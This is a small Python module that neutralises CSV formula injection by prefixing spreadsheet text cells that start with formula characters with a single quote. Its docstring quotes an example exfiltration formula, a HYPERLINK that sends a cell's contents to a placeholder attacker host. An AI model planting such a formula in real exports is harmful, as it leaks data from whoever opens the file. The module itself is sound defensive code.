"""Cells a spreadsheet will not run: CSV formula injection (OWASP, "CSV Injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@`
(and, after they strip it, a tab or carriage return) as a formula, so a cadre's report
summary `=HYPERLINK("http://evil.example/?x="&A1,"click")` runs when an inspector opens the
export. Such a text cell is prefixed with a single quote, which the spreadsheet shows as
text. Only text is changed: a number (a negative distance, a count) is written as the
number it is.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(value):
    """`value` as a CSV cell that is never evaluated: text beginning with a formula
    character gets a leading `'`; numbers, booleans and None pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
